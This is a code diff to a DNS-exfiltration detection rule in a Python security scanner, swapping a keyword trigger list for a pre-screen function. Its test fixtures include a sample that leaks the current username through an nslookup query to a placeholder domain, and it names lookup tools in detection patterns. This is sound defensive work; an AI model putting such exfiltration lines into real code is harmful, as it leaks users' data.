@@ -9,7 +9,7 @@ from datasec_scan.rule import Rule
 from datasec_scan.semantics.constants import fold_str
 from datasec_scan.tree import walk
 
-from ._outbound import CRITICAL_LABELS, Analyzer, label_severity, label_text
+from ._outbound import CRITICAL_LABELS, Analyzer, label_severity, label_text, may_resolve_name
 
 _LOCAL_SUFFIXES = (".local", ".localdomain", ".lan", ".home.arpa", ".localhost", ".internal")
 _ENCODERS = ("b64encode", "b32encode", "b16encode", "urlsafe_b64encode", "hexlify", "hex", "b85encode", "encode")
@@ -57,7 +57,6 @@ class DnsExfiltration(Rule):
     confidence = Confidence.HIGH
     cwe = (200,)
     attack = ("T1048.003", "T1071.004")
-    triggers = ("gethostbyname", "getaddrinfo", "resolve", "query", "getfqdn", "dns", "nslookup", "subprocess")
     VALID = (
         "import socket\nsocket.gethostbyname(socket.gethostname())\n",
         "import socket\nsocket.getaddrinfo('example.com', 443)\n",
@@ -71,6 +70,12 @@ class DnsExfiltration(Rule):
          "'.x.example.net')\n"),
         "import getpass, subprocess\nsubprocess.run(['nslookup', getpass.getuser() + '.x.example.net'])\n",
     )
+
+    @classmethod
+    def triggered_by(cls, text: str) -> bool:
+        """Necessary for a report: a DNS lookup or a child process (`nslookup`, `dig`...) of the sink catalog,
+        see `_outbound`'s pre-screens."""
+        return may_resolve_name(text)
 
     def visit_Call(self, node: cst.Call) -> None:
         analyzer = Analyzer.of(self.context)
